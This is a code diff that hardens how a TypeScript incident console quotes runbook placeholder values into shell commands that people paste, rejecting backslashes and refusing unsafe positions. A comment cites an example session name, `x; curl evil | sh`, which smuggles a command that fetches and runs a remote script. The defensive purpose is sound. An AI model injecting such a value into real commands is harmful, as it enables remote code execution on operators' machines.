@@ -1,4 +1,5 @@
 import { AppError } from "@/lib/errors";
+import { placeholderContexts, type Quoting } from "./shell-context";
 
 /** What a runbook may ask of the incident it runs for. */
 export const PLACEHOLDERS = ["agent_id", "session_id", "incident_id", "incident_start"] as const;
@@ -39,35 +40,36 @@ function valueOf(value: string | Date | null | undefined): string | null {
   return value ? value : null;
 }
 
-// Characters a POSIX shell never interprets inside a word.
-const SHELL_SAFE = /^[A-Za-z0-9._:@%+=,/-]+$/;
-
-type QuoteState = "none" | "single" | "double";
+// Characters a POSIX shell never interprets inside a word (a leading "=" is zsh's path lookup).
+const SHELL_SAFE = /^[A-Za-z0-9._:@%+,/-][A-Za-z0-9._:@%+=,/-]*$/;
 
 /**
- * A value as it must appear inside a shell command at a point where the shell is in `state`. A
+ * A value as it must appear at a point of a command the scanner proved plain (shell-context.ts). A
  * session id is chosen by the agent, so a compromised agent could name a session `x; curl evil | sh`:
  * anything beyond plain characters is single-quoted, closing and reopening the template's own quotes.
  */
-function shellQuote(value: string, state: QuoteState): string {
-  if (SHELL_SAFE.test(value)) return value;
+function shellQuote(value: string, at: Quoting, mustQuote: boolean): string {
+  if (SHELL_SAFE.test(value) && !mustQuote) return value;
   const quoted = `'${value.replaceAll("'", `'\\''`)}'`;
-  if (state === "single") return `'${quoted}'`;
-  if (state === "double") return `"${quoted}"`;
+  if (at === "single") return `'${quoted}'`;
+  if (at === "double") return `"${quoted}"`;
   return quoted;
 }
 
 function shellProblem(name: string, value: string): string | null {
   if (/[\u0000-\u001f\u007f]/.test(value)) return `${name} holds control characters, which cannot go into a command`;
   if (value.startsWith("-")) return `${name} "${value}" starts with "-", which the command would read as an option`;
+  // fish reads \' inside single quotes as a quote, so no quoting keeps a backslash literal in every shell.
+  if (value.includes("\\")) return `${name} holds a backslash, which shells do not all read alike inside quotes`;
   return null;
 }
 
 /**
  * Fills `{agent_id}`, `{session_id}`, `{incident_id}` and `{incident_start}` from the incident.
- * With `{ shell: true }` the result is a command a person will paste into a shell: values are quoted
- * where the shell would otherwise interpret them. A placeholder without a value, or an unknown one,
- * is a VALIDATION error naming it.
+ * With `{ shell: true }` the result is a command a person will paste into a shell: each value is
+ * quoted for the place it fills, and a placeholder anywhere no quoting is sure to hold (see
+ * shell-context.ts) is refused. A placeholder without a value, an unknown one, or one refused is a
+ * VALIDATION error naming it: the caller shows the template with the reason, never a half-filled command.
  */
 export function fillPlaceholders(template: string, values: PlaceholderValues, opts: { shell?: boolean } = {}): string {
   const errors: { path: string; message: string }[] = [];
@@ -83,40 +85,32 @@ export function fillPlaceholders(template: string, values: PlaceholderValues, op
       if (problem) errors.push({ path: name, message: problem });
     }
   }
+  const contexts = opts.shell ? placeholderContexts(template, isPlaceholder) : null;
+  for (const { path, message } of contexts ? shellContextProblems(template, contexts) : []) {
+    if (!errors.some((e) => e.message === message)) errors.push({ path, message });
+  }
   if (errors.length > 0) {
     throw new AppError("VALIDATION", errors.map((e) => e.message).join("; "), { details: { errors } });
   }
-  if (!opts.shell) {
-    return template.replace(PLACEHOLDER, (_, name: string) => (isPlaceholder(name) ? (valueOf(values[name]) ?? "") : `{${name}}`));
-  }
-  return fillShell(template, values);
+  return template.replace(PLACEHOLDER, (match, name: string, offset: number) => {
+    if (!isPlaceholder(name)) return match;
+    const value = valueOf(values[name]) ?? "";
+    if (!contexts) return value;
+    const context = contexts.get(offset);
+    return context?.fill ? shellQuote(value, context.quoting, context.mustQuote) : match;
+  });
 }
 
-function fillShell(template: string, values: PlaceholderValues): string {
-  const at = /\{([A-Za-z_][A-Za-z0-9_]*)\}/y;
-  let state: QuoteState = "none";
-  let out = "";
-  for (let i = 0; i < template.length; ) {
-    const c = template.charAt(i);
-    if (c === "{") {
-      at.lastIndex = i;
-      const match = at.exec(template);
-      const name = match?.[1];
-      if (match && name && isPlaceholder(name)) {
-        out += shellQuote(valueOf(values[name]) ?? "", state);
-        i += match[0].length;
-        continue;
-      }
-    }
-    if (c === "\\" && state !== "single") {
-      out += template.slice(i, i + 2);
-      i += 2;
-      continue;
-    }
-    if (c === "'" && state !== "double") state = state === "single" ? "none" : "single";
-    else if (c === '"' && state !== "single") state = state === "double" ? "none" : "double";
-    out += c;
-    i += 1;
-  }
-  return out;
+/** Each placeholder of a shell command that no value may fill, with why: the same for every incident. */
+export function shellContextProblems(
+  template: string,
+  contexts = placeholderContexts(template, isPlaceholder),
+): { path: string; index: number; message: string }[] {
+  return [...template.matchAll(PLACEHOLDER)].flatMap((match) => {
+    const name = match[1] ?? "";
+    if (!isPlaceholder(name)) return [];
+    const context = contexts.get(match.index);
+    if (context?.fill) return [];
+    return [{ path: name, index: match.index, message: context?.reason ?? `{${name}} sits where the console cannot tell how a shell reads it` }];
+  });
 }
